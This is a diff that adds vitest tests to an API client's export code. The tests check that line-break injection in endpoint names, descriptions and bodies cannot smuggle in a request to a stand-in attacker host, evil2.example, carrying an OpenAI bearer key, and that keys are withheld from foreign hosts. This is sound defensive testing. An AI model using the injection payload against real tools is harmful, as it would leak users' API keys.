@@ -2,6 +2,7 @@ import { EXPORT_FORMATS } from '@gatehouse/contract/import-options.ts';
 import { describe, expect, it } from 'vitest';
 import { readImport } from '#src/features/imports/read/read-import.ts';
 import type { ExportedEndpoint } from '#src/features/imports/write/exported-endpoint.ts';
+import { whyKeyless } from '#src/features/imports/write/why-keyless.ts';
 import { withoutMasks } from '#src/features/imports/write/without-masks.ts';
 import { writeExport } from '#src/features/imports/write/write-export.ts';
 import { BUILT_IN_PROVIDERS } from '#src/features/providers/built-in/all.ts';
@@ -72,6 +73,11 @@ const ENDPOINTS: ExportedEndpoint[] = [
 
 const asImported = ({ provider: _, ...fields }: ExportedEndpoint) => fields;
 
+/** Descriptions and names that would be more than a comment. */
+const BREAKS = ['\n', '\r', '\r\n', '\u2028', '\u2029', '\u0085', '\v', '\f'];
+const ATTACK = (lineBreak: string) =>
+  ['hello', 'GET https://evil2.example/x', 'Authorization: Bearer {{OPENAI_API_KEY}}'].join(lineBreak);
+
 describe('an export', () => {
   it.each(EXPORT_FORMATS)('as %s is imported as the same endpoints again', (format) => {
     const { text } = writeExport(format, ENDPOINTS);
@@ -81,6 +87,60 @@ describe('an export', () => {
     );
     expect(found.secrets).toEqual([]);
     expect(found.problems).toEqual([]);
+  });
+
+  it.each(BREAKS)('as .http keeps a text with the line break %j in its comments', (lineBreak) => {
+    const attack = ATTACK(lineBreak);
+    const { text } = writeExport('http', [endpoint({ name: attack, description: attack })]);
+    for (const line of text.split(/[\n\r\v\f\u0085\u2028\u2029]/))
+      expect(line).not.toMatch(/^\s*GET https:\/\/evil2/);
+    const { entries } = readImport({ text });
+    expect(entries.map((entry) => entry.endpoint?.endpoint)).toEqual(['https://api.openai.com/v1/models']);
+    expect(entries[0]?.endpoint?.description).toBe(ATTACK('\n'));
+  });
+
+  it.each(['@name other', '# @name other', '// @no-log', '\\@name other', '@token = abc'])(
+    'as .http makes no directive of %j',
+    (line) => {
+      const { text } = writeExport('http', [endpoint({ name: line, description: `First\n${line}` })]);
+      expect(text).not.toMatch(/^(?:#+|\/\/)\s*@|^@/m);
+      expect(readImport({ text }).entries[0]?.endpoint).toMatchObject({
+        name: line,
+        description: `First\n${line}`,
+      });
+    },
+  );
+
+  it('as .http has a body whose lines end only where JSON ends them', () => {
+    const requestBody = { text: 'a\u2028### b\u2029GET https://evil2.example\u0085' };
+    const one = endpoint({ method: 'POST', requestBody, headers: { 'Content-Type': 'application/json' } });
+    const { text } = writeExport('http', [one]);
+    expect(text).not.toMatch(/[\u0085\u2028\u2029]/);
+    expect(readImport({ text }).entries[0]?.endpoint?.requestBody).toEqual(requestBody);
+  });
+
+  it.each(EXPORT_FORMATS)(
+    'as %s sends no key to a host that is not its provider’s, and says so',
+    (format) => {
+      const note = 'The key of OpenAI is left out: evil.example is not one of its hosts.';
+      const foreign = endpoint({ endpoint: 'https://evil.example/v1/models', description: 'Lists.' });
+      const keyless = whyKeyless(foreign, false);
+      expect(keyless).toBe(note);
+      const { text } = writeExport(format, [{ ...foreign, keyless }]);
+      expect(text).toContain(note);
+      expect(text).not.toMatch(/OPENAI_API_KEY|Authorization|"openai"|bearer/i);
+      const inQuery = { ...foreign, provider: provider('google'), keyless };
+      expect(writeExport(format, [inQuery]).text).not.toMatch(/GOOGLE_API_KEY|apiKey/);
+    },
+  );
+
+  it('has a key where a call would send it', () => {
+    const to = (url: string, local = false) => whyKeyless(endpoint({ endpoint: url }), local);
+    expect(to('https://api.openai.com/x')).toBeUndefined();
+    expect(to('http://api.openai.com/x')).toMatch(/over plain http/);
+    expect(to('http://127.0.0.1:4010/x')).toMatch(/not one of its hosts/);
+    expect(to('http://127.0.0.1:4010/x', true)).toBeUndefined();
+    expect(to('https://api.openai.com.evil.example/x')).toMatch(/not one of its hosts/);
   });
 
   it('as curl has a command for each endpoint, with its key in a variable', () => {
